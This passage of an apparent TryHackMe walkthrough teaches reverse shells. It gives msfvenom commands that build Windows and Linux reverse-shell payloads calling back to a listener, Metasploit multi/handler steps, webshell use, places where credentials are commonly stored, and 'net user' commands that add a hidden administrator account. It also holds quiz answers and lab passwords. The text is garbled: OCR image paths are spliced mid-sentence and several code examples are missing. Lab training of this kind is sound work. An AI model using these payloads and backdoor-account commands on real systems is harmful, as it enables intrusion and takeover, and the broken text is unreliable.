msfvenom -p windows/x64/shell/reverse_tcp -f exe -o shell.exe LHOST=<listen-IP> LPORT=<listen-port>

Here we are using a payload and four options:

  • -f <format>
  • Specifies the output format. In this case that is an executable (exe)
  • -o <file>
  • The output location and filename for the generated payload.
  • LHOST=<IP>
  • Specifies the IP to connect back to. When using TryHackMe, this will be your tun0 IP address. If you cannot load the link then you are not connected to the VPN.
  • LPORT=<port>
  • The port onthe local machine to connect back to. This can be anything between 0 and 65535 that isn’t already in use; however, ports below 1024 are restricted and require a listener running with root privileges.

Staged vs Stageless

Before we go any further, there are another two concepts which must be introduced: staged reverse shell payloads and stageless reverse shell payloads.

  • Staged payloads are sent in two parts. The first part is called the stager. This is a piece of code which is executed directly on the server itself. It connects back to a waiting listener, but doesn’t actually contain any reverse shell code by itself. Instead it connects to the listener and uses the connection to load the real payload, executing it directly and preventing it from touching the disk where it could be caught by traditional anti-virus solutions. Thus the payload is split into two parts — a small initial stager, then the bulkier reverse shell code which is downloaded when the stager is activated. Staged payloads require a special listener — usually the Metasploit multi/handler, which will be covered in the next task.
  • Stageless payloads are more common — these are what we’ve been using up until now. They are entirely self-contained in that there is one piece of code which, when executed, sends a shell back immediately to the waiting listener.Stageless payloads tend to be easier to use and catch; however, they are also bulkier, and are easier for an antivirus or intrusion detection program to discoverand remove. Staged payloads are harder to use, but the initial stager is a lot shorter, and is sometimes missed by less-effective antivirus software. Modern day antivirus solutions will also make use of the Anti-Malware Scan Interface (AMSI) to detect the payload as it is loaded into memory by the stager, making staged payloads less effective than they would once have been in this area.


On the subject of Metasploit, another important thing to discuss is a Meterpreter shell. Meterpreter shells are Metasploit’s own brand of fully-featured shell. They are completely stable, making them a very good thing when working with Windows targets. They also have a lot of inbuilt functionality of their own, such as file uploads and downloads. If we want to use any of Metasploit’s post-exploitation tools then we need to use a meterpreter shell, however, that is a topic for another time. The downside to meterpreter shells is that they must be caught in Metasploit.

Payload Naming Conventions

When working with msfvenom, it’s important to understand how the naming system works. The basic convention is as follows:


For example:


This would generate a stageless reverse shell for an x86 Linux target.

The exception to this convention is Windows 32bit targets. For these, the arch is not specified. e.g.:


For a 64bit Windows target, the arch would be specified as normal (x64).

Let’s break the payload section down a little further.

In the above examples the payload used was shell_reverse_tcp. This indicates that it was a stageless payload. How? Stageless payloads are denoted with underscores (_). The staged equivalent to this payload would be:


As staged payloads are denoted with anotherforward slash (/).

This rule also applies to Meterpreter payloads. A Windows 64bit staged Meterpreter payload would look like this:


A Linux 32bit stageless Meterpreter payload would look like this:


Aside from the msfconsole man page, the other important thing to note when working with msfvenom is:

msfvenom --list payloads

This can be used to list all available payloads, which can then be piped into grep to search for a specific set of payloads. For example:

This gives us a full set of Linux meterpreter payloads for 32bit targets.

Ques 12: Which symbol is used to show that a shell is stageless?
Ans 12:Ques 13: What command would you use to generate a staged meterpreter reverse shell for a 64bit Linux target, assuming your own IP was, and you were listening on port 443? The format for the shell is elf and the output filename should be shell
Ans 13:
msfvenom -p linux/x64/meterpreter/reverse_tcp -f elf -o shell.elf LHOST= LPORT=443

Metasp loit multi/handler

Multi/Handler is a superb tool for catching reverse shells. It’s essential if you want to use Meterpreter shells, and is the go-to when using staged payloads.

Fortunately, it’s relatively easy to use:

  1. Open Metasploit with msfconsole
  2. Type use multi/handler, and press enter

We are now primed to start a multi/handler session. Let’s take a look at the available options using the options command:

There are three options we need to set: payload, LHOST and LPORT. These are all identical to the options we set when generating shellcode with Msfvenom — a payload specific to our target, as well as alistening address and port with which we can receive a shell. Note that the LHOST must be specified here, as metasploit will not listen on all network interfaces like netcat or socat will; it must be told a specific address to listen with (when usingTryHackMe, this will be your tun0 address). We set these options with the following commands:

  • set PAYLOAD <payload>
  • set LHOST <listen-address>
  • set LPORT <listen-port>

We should now be ready to start the listener!

Let’s do this by using the exploit -j command. This tells Metasploit to launch the module, running as a job in the background.

You may notice that in the above screenshot, Metasploit is listening on a port under 1024. To do this, Metasploit must be run with sudo permissions.

When the staged payload generated in the previous task is run, Metasploit receives the connection, sending the remainder of the payload and giving us a reverse shell:

Notice that, because the multi/handler was originally backgrounded, we needed to use sessions 1 to foreground it again. This worked as it was the only session running. Had there been other sessions active, we would have needed to use sessions to see all active sessions, then use sessions <number> to select the appropriate session to foreground. This number would also have been displayed in the line where the shell was opened (see "Command Shell session 1 opened").

Ques 14: What command can be used to start a listener in the background?
Ans 14:
exploit -j

Ques 15: If we had just received our tenth reverse shell in the current Metasploit session, what would be the command used to foreground it?
Ans 15:
sessions 10There are times when we encounter websites that allow us an opportunity to upload, in some way or another, an executable file. Ideally we would use this opportunity to upload code that would activate a reverse or bind shell, but sometimes this is not possible. In these cases we would instead upload a webshell. See the Upload Vulnerabilities Room for a more extensive look at this concept.

“Webshell” is a colloquial term for a script that runs inside a webserver (usually in a language such as PHP or ASP) which executes code on the server. Essentially, commands are entered into a webpage — either through a HTML form, or directly as arguments in the URL — which are then executed by the script, with the results returned and written to the page. This can be extremely useful if there are firewalls in place, or even just as a stepping stone into a fully fledged reverse or bind shell.

AsPHP is still the most common server side scripting language, let’s have a look at some simple code for this.

In a very basic one line format:

This will take a GET parameter in the URL and execute it on the system with shell_exec(). Essentially, what this means is that any commands we enter in the URL after ?cmd= will be executed on the system -- be it Windows or Linux. The "pre" elements are to ensure that the results are formatted correctly on the page.

Let’s see this in action:

Notice that when navigating the shell, we used a GET parameter “cmd”with the command “ifconfig”, which correctly returned the network information of the box. In other words, by entering the ifconfig command (used to check the network interfaces on a Linux target) into the URL of our shell, it was executed on the system, with the results returned to us. This would work for any other command we chose to use (e.g. whoami, hostname, arch, etc).

As mentioned previously, there are a variety of webshells available on Kali by default at /usr/share/webshells -- including the infamousPentestMonkey php-reverse-shell -- a full reverse shell written in PHP. Note that most generic, language specific (e.g. PHP) reverse shells are written for Unix based targets such as Linux webservers. They will not work on Windows by default.

When the target is Windows, it is often easiest to obtain RCE using a web shell, or by using msfvenom to generate a reverse/bind shell in the language of the server. With the former method, obtaining RCE is often done with a URL Encoded Powershell Reverse Shell. This would be copied into the URL as the cmd argument:


This is the same shell we encountered in Task 8, however, it has been URL encoded to be used safely in a GET parameter. Remember that the IP and Port (bold, towards end of the top line) will still need to be changed in the above code.

Next Steps

Ok, we have a shell. Now what?

We’ve covered lots of ways to generate, send and receive shells. The one thing that these all have in common is that they tend to be unstable and non-interactive. Even Unix style shells which are easier to stabilise are not ideal. So, what can we do about this?

On Linux ideally we would be looking for opportunities to gain access to a useraccount. SSH keys stored at /home/<user>/.ssh are often an ideal way to do this. In CTFs it's also not infrequent to find credentials lying around somewhere on the box. Some exploits will also allow you to add your own account. In particular something like Dirty C0w or a writeable /etc/shadow or /etc/passwd would quickly give you SSH access to the machine, assuming SSH is open.

On Windows the options are often more limited. It’s sometimes possible to find passwords for running services in the registry. VNC servers, for example, frequently leave passwords in the registry stored in plaintext. Some versions of the FileZilla FTP server also leave credentials in an XML file at C:\Program Files\FileZilla Server\FileZilla Server.xmlC:\xampp\FileZilla Server\FileZilla Server.xml
. These can be MD5 hashes or in plaintext, depending on the version.

Ideally on Windows you would obtain a shell running as the SYSTEM user, or an administrator account running with high privileges. In such a situation it’s possible to simply add your own account (in the administrators group) to the machine, then log in over RDP, telnet, winexe, psexec, WinRM or any number of other methods, dependent on the services running on the box.

The syntax for this is as follows:

net user <username> <password> /add

net localgroup administrators <username> /add

The important take away from this task:

Reverse and Bind shells are an essential technique for gaining remote code execution on a machine, however, they will never be as fully featured as a native shell. Ideally we always want to escalate into using a “normal” method for accessing the machine, as this will invariably be easier to use for further exploitation of the target.

Practice and Examples

This room contained a lot of information, and gave you little opportunity to put it into practice throughout. The following two tasks contain virtual machines (one Ubuntu 18.04 server and one Windows server), each configured with a simple webserver with which you can upload and activate shells. This is a sandbox environment, so there will be no filters to bypass. Login credentials and instructions for each will also be given, should you wish to log in to practice with netcat, socat or meterpreter shells.

The remainder of this task will consist of shell examples for you to try out on the practice boxes.

Linux Practice Box

The box attached to this task is an Ubuntu server with a file upload page running on a webserver. This should be used to practice shell uploads on Linux systems. Equally,both socat and netcat are installed on this machine, so please feel free to log in via SSH on port 22 to practice with those directly. The credentials for logging in are:

  • Username: shell
  • Password: TryH4ckM3!

Windows Practice Box

This task contains a Windows 2019 Server box running a XAMPP webserver. This can be used to practice shell uploads on Windows. Again, both Socat and Netcat are installed, so feel free to log in over RDP or WinRM to practice with these. The credentials are:

  • Username: Administrator
  • Password: TryH4ckM3!

To login using RDP:

xfreerdp /dynamic-resolution +clipboard /cert:ignore /v:MACHINE_IP /u:Administrator /p:'TryH4ckM3!'



Rahul Kumar

Cybersecurity Enthusiast!! | COMPTIA SEC+ | CCSK | CEH | MTAS&N | Cybersecurity Analyst | WebApplication Security